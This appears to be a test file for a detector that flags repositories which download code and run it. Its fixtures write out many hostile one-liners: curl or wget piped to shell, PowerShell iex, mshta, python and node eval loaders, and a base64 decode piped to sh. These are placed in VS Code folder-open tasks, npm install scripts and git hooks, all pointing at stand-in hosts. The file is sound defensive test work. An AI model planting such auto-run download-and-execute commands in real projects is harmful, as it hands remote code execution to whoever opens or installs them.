import { openTask, scripts, testLures } from '../../../test/support/lures.ts';
import detector from './download-piped-to-shell.ts';

const HOST = 'https://fixture-not-real.vercel.app/api/settings/linux';

testLures(detector, {
  proof: {
    'curl piped to bash on opening': { '.vscode/tasks.json': openTask(`curl -sL '${HOST}?flag=5' | bash`) },
    'only in the windows block': {
      '.vscode/tasks.json': JSON.stringify({
        tasks: [
          {
            label: 'env',
            type: 'shell',
            command: 'echo',
            windows: { command: 'curl https://fixture.invalid/w -L | cmd' },
            runOptions: { runOn: 'folderOpen' },
          },
        ],
      }),
    },
    'wget in a lifecycle script': {
      'package.json': scripts({ preinstall: 'wget -qO- https://fixture.invalid/i.sh | sh' }),
    },
    'through another script': {
      'package.json': scripts({ postinstall: 'npm run setup', setup: 'curl -ks https://fixture.invalid/x | bash' }),
    },
    substitution: { 'package.json': scripts({ prepare: 'bash -c "$(curl -fsSL https://fixture.invalid)"' }) },
    'process substitution': {
      '.husky/pre-commit': '#!/bin/sh\nbash <(curl -s https://fixture.invalid/h)\n',
      'package.json': scripts({ prepare: 'husky' }),
    },
    PowerShell: {
      '.vscode/tasks.json': openTask('powershell -w hidden -c "iwr -useb https://fixture.invalid/p | iex"'),
    },
    'PowerShell, call': {
      '.vscode/tasks.json': openTask(
        'powershell -nop -c "iex ((New-Object Net.WebClient).DownloadString(\'https://fixture.invalid/p\'))"',
      ),
    },
    'saved, made executable, started': {
      'package.json': scripts({
        postinstall: `curl -s ${HOST} -o /tmp/x && chmod +x /tmp/x && /tmp/x`,
      }),
    },
    decoded: { 'package.json': scripts({ install: 'echo ZWNobyBmaXh0dXJl | base64 -d | sh' }) },
    'python one-liner': {
      'package.json': scripts({
        postinstall: 'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://fixture.invalid\').read())"',
      }),
    },
    'node one-liner': {
      'package.json': scripts({
        postinstall: "node -e \"require('https').get('https://fixture.invalid',r=>{r.on('data',d=>eval(String(d)))})\"",
      }),
    },
    'into node': { 'package.json': scripts({ prepare: 'curl -s https://fixture.invalid/a.js | node' }) },
    mshta: { '.vscode/tasks.json': openTask('mshta https://fixture.invalid/a.hta') },
    'in a script that a hook starts': {
      '.githooks/post-checkout': '#!/bin/sh\nsh ./tools/sync.sh\n',
      '.git/config': '[core]\n\thooksPath = .githooks\n',
      'tools/sync.sh': '#!/bin/sh\nset -e\nwget -O - https://fixture.invalid/s | bash\n',
      'package.json': scripts({ prepare: 'sh ./tools/sync.sh' }),
    },
    'a bare address even when asked for': {
      'package.json': scripts({ start: 'curl http://192.0.2.7/a | sh & react-scripts start' }),
    },
  },
  strong: {
    'saved from an ordinary host and started': {
      'package.json': scripts({ postinstall: 'curl -L https://downloads.fixture.example/tool -o tool && ./tool' }),
    },
    'a script of the reader': {
      'package.json': scripts({ setup: 'curl -s https://downloads.fixture.example/i.sh | bash' }),
    },
  },
  silent: {
    'documented installers': {
      'package.json': scripts({ postinstall: 'curl -fsSL https://bun.sh/install | bash' }),
      Dockerfile: 'FROM node\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n',
      '.github/workflows/ci.yml':
        'jobs:\n  a:\n    steps:\n      - run: curl -sSf https://sh.rustup.rs | sh -s -- -y\n',
      '.devcontainer/devcontainer.json': '{"postCreateCommand":"curl -fsSL https://get.pnpm.io/install.sh | sh -"}',
    },
    'piped into a reader of data': {
      'package.json': scripts({
        postinstall: 'curl -s https://api.fixture.example/v | jq .version > version.json',
        prepare: 'curl -s https://api.fixture.example/v | node -e "process.stdin.resume()"',
        postprepare: 'curl -s https://api.fixture.example/v | python -m json.tool',
      }),
    },
    'only saved': {
      'package.json': scripts({ postinstall: 'curl -sL https://fixture.example/data.json -o data/data.json' }),
    },
    'health checks': {
      'docker-compose.yml':
        'services:\n  a:\n    image: x\n    healthcheck:\n      test: curl -f http://localhost:8080/health || exit 1\n',
    },
    'a README that names its own installer': {
      'README.md':
        'Run `curl -fsSL https://tool.example/install.sh | sh` or:\n\n```\ncurl -o /tmp/a.sh https://tool.example/a.sh\nsh /tmp/a.sh\n```\n',
    },
    'README texts': { 'README.md': '```sh\ncurl -s https://fixture.invalid/install.sh | bash\n```\n' },
    'a workflow': {
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSL https://install.fixture.example/x.sh | bash\n',
    },
  },
});
